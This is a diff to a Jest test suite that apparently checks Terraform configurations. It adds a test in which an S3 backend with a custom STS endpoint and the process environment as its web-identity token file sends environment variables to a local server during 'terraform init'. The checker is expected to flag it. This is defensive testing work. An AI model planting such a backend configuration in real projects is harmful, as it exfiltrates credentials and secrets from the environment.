@@ -1,5 +1,8 @@
 import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
+import { text } from "node:stream/consumers";
 import { describe, expect, test } from "@jest/globals";
 import { runChild } from "../../scripts/engine/child";
 import { cleanEnvironment } from "../../scripts/engine/clean-environment";
@@ -106,6 +109,26 @@ const READERS: readonly (readonly [what: string, files: Files])[] = [
   ],
 ];
 
+/** A backend that asks an address for its credentials, with a file as what it knows of itself. */
+function webIdentity(address: string): Files {
+  const s3 = {
+    bucket: "x",
+    key: "x",
+    region: "us-east-1",
+    endpoints: { sts: address, s3: address },
+    skip_credentials_validation: true,
+    skip_metadata_api_check: true,
+    skip_requesting_account_id: true,
+    max_retries: 1,
+    assume_role_with_web_identity: {
+      role_arn: "arn:aws:iam::123456789012:role/x",
+      session_name: "session",
+      web_identity_token_file: ENVIRON,
+    },
+  };
+  return { "main.tf.json": { terraform: { backend: { s3 } } } };
+}
+
 /** Terraform refuses it itself. */
 const TEMPLATE_STRING: (typeof READERS)[number] = [
   "a template in a string",
@@ -134,6 +157,33 @@ describe.each(engines())("on $name", (engine) => {
       expect(readFileSync(join(folder, "terraform.tfstate"), "utf8")).toContain("EXAMPLE_KEY=that-deletes");
     } finally {
       remove();
+    }
+  });
+
+  const onProc = process.platform === "linux" ? test : test.skip;
+  onProc("a backend sends the environment to a place of its own, and is refused before init", async () => {
+    const sent: string[] = [];
+    const server = createServer((request, response) => {
+      void text(request).then((body) => {
+        sent.push(decodeURIComponent(body));
+        response.writeHead(403).end();
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const { folder, remove } = makeFolder(webIdentity(address));
+    try {
+      expect(checkStack(folder, []).findings).not.toEqual([]);
+
+      const configuration = join(folder, "empty.tfrc");
+      writeFileSync(configuration, "");
+      const env = cleanEnvironment(configuration, { EXAMPLE_KEY: "that-deletes" });
+      await runChild(engine.path, ["init", "-input=false", "-no-color"], { cwd: folder, env });
+      expect(sent.join("\n")).toContain("EXAMPLE_KEY=that-deletes");
+    } finally {
+      remove();
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
     }
   });
 
